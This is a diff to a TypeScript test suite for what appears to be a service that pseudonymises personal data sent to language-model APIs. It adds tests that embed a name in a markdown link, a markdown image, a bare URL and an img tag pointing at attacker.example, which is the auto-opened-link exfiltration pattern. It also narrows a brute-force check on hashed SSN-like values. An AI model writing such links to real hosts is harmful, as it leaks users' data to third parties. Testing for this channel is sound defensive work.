@@ -197,6 +197,27 @@ describe.each(DIALECTS)("%s: a model that is asked for the mapping", (dialect) =
   });
 });
 
+const LINKS: Readonly<Record<string, (name: string) => string>> = {
+  "a link": (name) => `[see](https://attacker.example/?q=${name})`,
+  "a picture's address": (name) => `![x](https://attacker.example/a.png?d=${name})`,
+  "a bare address": (name) => `https://attacker.example/${name}/`,
+  "a tag's attribute": (name) => `<img src="https://attacker.example/?d=${name}">`,
+};
+
+describe.each(DIALECTS)("%s: a name in an address, which a client may open by itself", (dialect) => {
+  it.each(Object.entries(LINKS))("%s", async (_, link) => {
+    for (const stream of [false, true]) {
+      const { answer, name } = await play(
+        dialect,
+        `Write to ${MAIL}`,
+        { text: (each) => `so: ${link(each)} ok` },
+        { stream },
+      );
+      expect(seen(dialect, answer).text).toBe(`so: ${link(name)} ok`);
+    }
+  });
+});
+
 describe("guesses against what is stored or sent", () => {
   const guesses = ["acme", "", "lanekeeper", "pseudonym:acme", KEYS.acme, "local", "EMAIL_ADDRESS"];
   const shapes = (text: string): string[] => [
@@ -253,12 +274,13 @@ describe("guesses against what is stored or sent", () => {
         (_, i) => alphabet[Number.parseInt(bits.slice(i * 5, i * 5 + 5), 2)],
       ).join("");
     };
-    for (let serial = 8_000; serial < 9_000; serial += 1) {
-      for (const hash of computed(`536-22-${serial}`)) {
-        for (const alphabet of alphabets)
-          expect(inBase32(Buffer.from(hash, "hex"), alphabet)).not.toBe(placed);
-      }
+    const tried = new Set<string>();
+    for (let serial = 8_700; serial < 8_740; serial += 1) {
+      for (const hash of computed(`536-22-${serial}`))
+        for (const alphabet of alphabets) tried.add(inBase32(Buffer.from(hash, "hex"), alphabet));
     }
+    expect(tried.size).toBeGreaterThan(2_000);
+    expect(tried.has(placed)).toBe(false);
     const other = await play("openai", `SSN ${number}`, { text: () => "ok" }, { key: KEYS.globex });
     expect(other.body).not.toContain(placed);
     // Control: equal values of one tenant are equal to the lane, which is what a hash is for.
